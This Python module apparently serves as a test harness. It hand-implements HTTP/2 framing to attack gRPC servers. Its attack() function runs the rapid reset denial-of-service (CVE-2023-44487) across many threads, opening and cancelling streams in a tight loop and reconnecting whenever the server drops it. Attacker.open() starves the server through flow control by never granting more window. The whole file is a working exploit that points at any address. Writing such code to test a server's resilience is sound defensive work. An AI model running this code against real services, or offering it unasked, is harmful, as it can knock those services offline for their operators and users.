"""A hand-written HTTP/2 client for attacks on a gRPC port, independent of any HTTP/2 or gRPC
library: it speaks just enough HTTP/2 (the preface, SETTINGS and their ACK, PING answers;
header fields as HPACK literals without indexing).
- attack(): rapid reset (CVE-2023-44487): on each connection, streams opened with HEADERS and
  a DATA frame carrying a gRPC message, then reset at once (RST_STREAM CANCEL), in a loop,
  connecting again when the server closes the connection;
- Attacker.open(): one call whose replies are never taken: the client never grants more
  flow-control window than HTTP/2's first 64 KiB, so the server's writes block.
Used by hostile_grpc_test.py."""

import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value):
    """An HPACK literal header field without indexing, new name (lengths < 127)."""
    name, value = name.encode(), value.encode()
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def grpc_headers(path, authority):
    return b"".join(literal(k, v) for k, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers")))


def grpc_message(payload):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


class Attacker:
    """One connection resetting streams as fast as it can until `deadline`."""

    def __init__(self, address, path, message):
        host, port = address.split(":")
        self.sock = socket.create_connection((host, int(port)))
        self.lock = threading.Lock()
        self.block = grpc_headers(path, address)
        self.message = grpc_message(message)
        self.streams = 0
        self.goaway = False
        self.closed = False
        self.reader = threading.Thread(target=self._read, daemon=True)
        self._send(PREFACE + frame(SETTINGS, 0, 0))
        self.reader.start()

    def _send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _read(self):
        buf = b""
        try:
            while True:
                d = self.sock.recv(65536)
                if not d:
                    break
                buf += d
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    kind, flags = buf[3], buf[4]
                    payload = buf[9:9 + n]
                    buf = buf[9 + n:]
                    if kind == SETTINGS and not flags & ACK:
                        self._send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self._send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.goaway = True
        except OSError:
            pass
        self.closed = True

    def open(self, stream=1):
        """Starts one call and leaves its replies unread (no WINDOW_UPDATE is ever sent)."""
        self._send(frame(HEADERS, END_HEADERS, stream, self.block) +
                   frame(DATA, END_STREAM, stream, self.message))

    def run(self, deadline):
        stream = 1
        try:
            while time.monotonic() < deadline and not self.closed and stream < 2 ** 31 - 2:
                self._send(frame(HEADERS, END_HEADERS, stream, self.block) +
                           frame(DATA, END_STREAM, stream, self.message) +
                           frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                self.streams += 1
                stream += 2
        except OSError:
            pass
        try:
            self.sock.close()
        except OSError:
            pass


def attack(address, path, message, connections, seconds):
    """Runs `connections` attackers for `seconds`, each connecting again whenever the server
    closes its connection; returns (streams opened, connections made) in all."""
    deadline = time.monotonic() + seconds
    totals = []

    def one():
        streams = made = 0
        while time.monotonic() < deadline:
            try:
                a = Attacker(address, path, message)
            except OSError:
                time.sleep(0.01)
                continue
            made += 1
            a.run(deadline)
            streams += a.streams
        totals.append((streams, made))

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return sum(s for s, _ in totals), sum(m for _, m in totals)
